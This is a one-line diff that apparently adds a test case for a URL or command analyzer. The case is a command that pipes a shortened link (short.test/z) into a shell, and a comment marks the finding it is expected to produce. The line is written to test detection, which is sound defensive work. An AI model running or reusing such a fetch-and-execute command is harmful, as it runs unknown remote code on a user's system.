@@ -1,0 +1,1 @@
+curl -L https://short.test/z | sh # expect: url-analyzer/shortener
